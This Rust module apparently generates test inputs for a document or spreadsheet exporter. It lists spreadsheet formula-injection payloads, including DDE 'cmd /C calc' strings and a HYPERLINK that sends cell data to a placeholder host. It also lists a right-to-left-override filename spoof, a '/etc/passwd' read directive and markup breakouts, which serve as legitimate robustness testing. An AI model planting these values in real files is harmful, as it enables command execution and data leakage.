//! Text that a person might type, or a file hold, to do harm or because a name is written so.

use crate::Dice;

/// What a spreadsheet program would carry out, in every way it is written.
pub const FORMULAS: [&str; 24] = [
    "=1+1",
    "= 1+1",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u{3000}=1+1",
    "\u{a0}=1+1",
    "＝1+1",
    "＋1+1",
    "－2+3",
    "＠SUM(A1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://a.invalid/\"&A1,\"查看\")",
    "=IMPORTXML(\"http://a.invalid\",\"//a\")",
    "=DDE(\"cmd\";\"/C calc\";\"A0\")",
    "|calc",
    "%0A=1+1",
    "甲\";=1+1;\"",
];

/// Characters and words that are awkward to write down: rare characters of true names, old private
/// code points of GB 18030, marks that draw nothing or turn the direction, escapes and markup.
pub const AWKWARD: [&str; 52] = [
    "𬭎",
    "㑇",
    "䶮",
    "\u{e81e}",
    "\u{e5e5}",
    "\u{e854}\u{e864}",
    "\u{9fb4}",
    "\u{fa0e}",
    "\u{2e8b6}",
    "\u{31350}",
    "\u{20000}",
    "é",
    "e\u{301}",
    "\u{ac00}",
    "\u{1100}\u{1161}",
    "１２３４５６７８９０",
    "甲\u{200d}某",
    "👨\u{200d}👩\u{200d}👧",
    "\u{200b}",
    "\u{feff}",
    "\u{202e}gpj.exe",
    "\u{2066}甲\u{2069}",
    "\u{0}",
    "\u{1}",
    "\u{8}",
    "\u{b}",
    "\u{1f}",
    "\u{7f}",
    "\u{85}",
    "\u{2028}",
    "\u{fffe}",
    "\u{ffff}",
    "\u{fdd0}",
    "\u{1ffff}",
    "\u{10ffff}",
    "\u{fffd}",
    "_x0041_",
    "_x000D_",
    "_x005F_",
    "_xD800_",
    "_x0000_",
    "&#0;",
    "&amp;&lt;",
    "]]>",
    "<!--",
    "</w:t><w:p>",
    "#read(\"/etc/passwd\")",
    "$x^2$ *粗* _斜_ `码`",
    "\\u{41} \\",
    "\r\n",
    "\t",
    " 甲 ",
];

/// Some text: one of the above, some of them together, plain characters, seldom 64 KB in one word.
pub fn text(dice: &mut Dice) -> String {
    match dice.below(12) {
        0 => String::new(),
        1 => (*dice.pick(&FORMULAS)).to_owned(),
        2 | 3 => (*dice.pick(&AWKWARD)).to_owned(),
        4 => format!("甲某{}", dice.pick(&AWKWARD)),
        5 => format!("{}{}", dice.pick(&AWKWARD), dice.pick(&FORMULAS)),
        6 => (0..dice.below(20)).map(|_| *dice.pick(&AWKWARD)).collect(),
        7 => (0..dice.below(40))
            .filter_map(|_| char::from_u32(dice.below(0x11_0000) as u32))
            .collect(),
        8 if dice.once_in(20) => {
            let word = *dice.pick(&["甲", "a", "字a", "1", "\u{301}", "-", "𬭎", "("]);
            word.repeat((64 << 10) / word.len())
        }
        _ => (0..dice.below(60))
            .map(|_| *dice.pick(&['甲', '乙', '某', '，', '。', 'a', '1', ' ']))
            .collect(),
    }
}
